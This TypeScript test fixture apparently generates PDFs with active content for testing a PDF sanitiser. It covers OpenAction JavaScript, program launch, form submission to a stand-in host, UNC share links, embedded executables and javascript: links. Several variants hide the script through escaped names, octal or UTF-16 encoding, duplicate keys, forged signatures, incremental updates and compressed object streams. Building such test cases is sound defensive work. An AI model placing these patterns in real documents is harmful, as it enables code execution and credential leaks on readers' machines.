import { deflateSync } from 'node:zlib'
import { pdf } from './testing-pdf.ts'

/* PDFs that act when they are opened or clicked, each written in another way. What they do names `evil`. */

type Parts = NonNullable<Parameters<typeof pdf>[0]>
/** `form` joins the dictionary of its form. */
export type ActivePdf = Parts & { form?: string }

const script = '/S /JavaScript /JS (evil\\(1\\))'
const link = (action: string) => `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A ${action} >>]`
const uri = (text: string): ActivePdf => ({ page: link(`<< /S /URI /URI ${text} >>`) })
const hex = (text: string) => `<FEFF${[...text].map((letter) => letter.charCodeAt(0).toString(16).padStart(4, '0')).join('')}>`

export const activePdfs: Record<string, ActivePdf> = {
  'a script when it opens': { catalogue: `/OpenAction << ${script} >>` },
  'a script by reference': { catalogue: '/OpenAction 5 0 R', more: [`<< ${script} >>`] },
  'a script in a stream': { catalogue: '/OpenAction << /S /JavaScript /JS 5 0 R >>', more: [{ stream: 'evil(1)' }] },
  'a name with escapes': { catalogue: '/OpenAction << /#53 /Java#53#63ript /JS (evil\\(1\\)) >>' },
  'a type by reference': { catalogue: '/OpenAction << /S 5 0 R /JS (evil\\(1\\)) >>', more: ['/JavaScript'] },
  'a type by several references': { catalogue: '/OpenAction << /S 5 0 R /JS (evil\\(1\\)) >>', more: ['6 0 R', '7 0 R', '/JavaScript'] },
  'a comment between key and value': { catalogue: '/OpenAction << /S%evil\n/JavaScript /JS (evil\\(1\\)) >>' },
  'a key that comes twice': { catalogue: '/OpenAction << /S /GoTo /S /JavaScript /JS (evil\\(1\\)) >>' },
  'an action after a harmless one': { catalogue: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< ${script} >>] >>` },
  'a script when it closes': { catalogue: `/AA << /WC << ${script} >> >>` },
  'a script when its page is turned': { page: `/AA << /O << ${script} >> >>` },
  'scripts by name': { catalogue: '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>', more: [`<< ${script} >>`] },
  'a script of a bookmark': {
    catalogue: '/Outlines 5 0 R',
    more: ['<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>', `<< /Title (One) /Parent 5 0 R /A << ${script} >> >>`],
  },
  'a script of a field': {
    form: '/Fields [5 0 R]',
    page: '/Annots [5 0 R]',
    more: [`<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Ines) /Rect [0 0 90 20] /AA << /K << ${script} >> >> >>`],
  },
  'a program to launch': { page: link('<< /S /Launch /F (evil.exe) /Win << /F (evil.exe) >> >>') },
  'a document elsewhere': { page: link('<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>') },
  'a document inside': { page: link('<< /S /GoToE /T << /R /C /N (evil.pdf) >> >>') },
  'a thread elsewhere': { page: link('<< /S /Thread /F (\\\\\\\\evil.example\\\\share) /D 0 >>') },
  'a form to send': { page: link('<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>') },
  'data to read': { page: link('<< /S /ImportData /F (/etc/evil) >>') },
  'a film with a script': { page: link('<< /S /Rendition /OP 0 /JS (evil\\(1\\)) >>') },
  'an old film': { page: '/Annots [<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (\\\\\\\\evil.example\\\\film) >> >>]' },
  'rich media': {
    page: '/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets << /Names [(evil.swf) 5 0 R] >> >> >>]',
    more: ['<< /Type /Filespec /F (evil.swf) /EF << /F 6 0 R >> >>', { dictionary: '/Type /EmbeddedFile', stream: 'evil film' }],
  },
  'a 3D scene': {
    page: '/Annots [<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] /3DD 5 0 R >>]',
    more: [{ dictionary: '/Type /3D /Subtype /U3D /OnInstantiate 6 0 R', stream: 'scene' }, { stream: 'evil(1)' }],
  },
  'a file inside': {
    catalogue: '/Names << /EmbeddedFiles << /Names [(evil.exe) 5 0 R] >> >>',
    more: ['<< /Type /Filespec /F (evil.exe) /EF << /F 6 0 R >> >>', { dictionary: '/Type /EmbeddedFile', stream: 'MZ evil' }],
  },
  'a file pinned to a page': {
    page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (pinned.exe) /EF << /F 5 0 R >> >> >>]',
    more: [{ dictionary: '/Type /EmbeddedFile', stream: 'MZ evil' }],
  },
  'a form of XFA': { form: '/Fields [] /XFA 5 0 R', more: [{ stream: '<xdp><script>evil(1)</script></xdp>' }] },
  'a stream in another file': { catalogue: '/Extra 5 0 R', more: [{ dictionary: '/F (\\\\\\\\evil.example\\\\share)', stream: '' }] },
  'a page of another file': {
    catalogue: '/Extra 5 0 R',
    more: [
      { dictionary: '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (\\\\\\\\evil.example\\\\share) /Page 0 >>', stream: '' },
    ],
  },
  'a link that is a script': uri('(javascript:evil\\(1\\))'),
  'a link with octal letters': uri('(java\\163cript:evil\\(1\\))'),
  'a link of UTF-16': uri(hex('javascript:evil(1)')),
  'a link with spaces and capitals': uri('(\n \\t JaVa\\\nScript:evil\\(1\\))'),
  'a link by reference': { ...uri('5 0 R'), more: ['(javascript:evil\\(1\\))'] },
  'a link to a file': uri('(file://evil.example/share)'),
  'a link to another machine': uri('(\\\\\\\\evil.example\\\\share)'),
  'a link that holds its page': uri('(data:text/html,evil)'),
  'links below a script': { catalogue: '/URI << /Base (javascript:evil) >>', page: link('<< /S /URI /URI (\\(1\\)) >>') },
}

const signature = (first: number, form: string) => [
  `<< /SigFlags 3 /Fields [${first + 1} 0 R] ${form.replace(/\/Fields \[.*?\]/, '')} >>`,
  `<< /Type /Annot /Subtype /Widget /FT /Sig /T (s) /V ${first + 2} 0 R /Rect [0 0 0 0] >>`,
  '<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 1 2 3] /Contents <00> >>',
]

export const unsigned = ({ form, catalogue = '', ...parts }: ActivePdf): Buffer =>
  pdf({ ...parts, catalogue: form ? `${catalogue} /AcroForm << ${form} >>` : catalogue })

/** The same with a signature, real as far as anybody sees who doesn't check it. */
export const signed = ({ form = '', catalogue = '', more = [], ...parts }: ActivePdf): Buffer =>
  pdf({ ...parts, catalogue: `${catalogue} /AcroForm ${5 + more.length} 0 R`, more: [...more, ...signature(5 + more.length, form)] })

/** Adds a version of a document behind it, in which some objects are others (ISO 32000-2, 7.5.6). */
export const updated = (document: Buffer, objects: Readonly<Record<number, string>>): Buffer => {
  const text = document.toString('latin1')
  let body = ''
  const rows = Object.entries(objects).map(([number, object]) => {
    const row = `${number} 1\n${String(text.length + body.length).padStart(10, '0')} 00000 n \n`
    body += `${number} 0 obj\n${object}\nendobj\n`
    return row
  })
  const table = `xref\n${rows.join('')}trailer\n<< /Size 99 /Root 1 0 R /Prev ${/startxref\n(\d+)\n%%EOF\n$/.exec(text)![1]} >>\n`
  return Buffer.from(`${text}${body}${table}startxref\n${text.length + body.length}\n%%EOF\n`, 'latin1')
}

/** The same document with what is no stream in one compressed stream of objects, and a table in another (ISO 32000-2, 7.5.7 and 7.5.8). */
export const compressed = (document: Buffer): Buffer => {
  const objects = [...document.toString('latin1').matchAll(/(\d+) 0 obj\n([\s\S]*?)\nendobj\n/g)].map(
    ([, number, body]) => [Number(number), body!] as const,
  )
  const inside = objects.filter(([, body]) => !body.includes('\nstream\n'))
  let [table, contents] = ['', '']
  for (const [number, body] of inside) {
    table += `${number} ${contents.length} `
    contents += `${body}\n`
  }
  const stream = (number: number, dictionary: string, data: Buffer) => {
    const packed = deflateSync(data).toString('latin1')
    return `${number} 0 obj\n<< ${dictionary} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream\nendobj\n`
  }
  const [packed, last] = [objects.length + 1, objects.length + 2]
  let text = '%PDF-1.7\n'
  const rows = Array.from({ length: last + 1 }, () => Buffer.alloc(7))
  const add = (number: number, written: string) => {
    rows[number]!.writeUInt8(1, 0)
    rows[number]!.writeUInt32BE(text.length, 1)
    text += written
  }
  for (const [number, body] of objects) if (!inside.some(([other]) => other === number)) add(number, `${number} 0 obj\n${body}\nendobj\n`)
  for (const [index, [number]] of inside.entries()) {
    rows[number]!.writeUInt8(2, 0)
    rows[number]!.writeUInt32BE(packed, 1)
    rows[number]!.writeUInt16BE(index, 5)
  }
  add(packed, stream(packed, `/Type /ObjStm /N ${inside.length} /First ${table.length}`, Buffer.from(table + contents, 'latin1')))
  const start = text.length
  add(last, '')
  text += stream(last, `/Type /XRef /Size ${last + 1} /W [1 4 2] /Root 1 0 R`, Buffer.concat(rows))
  return Buffer.from(`${text}startxref\n${start}\n%%EOF\n`, 'latin1')
}
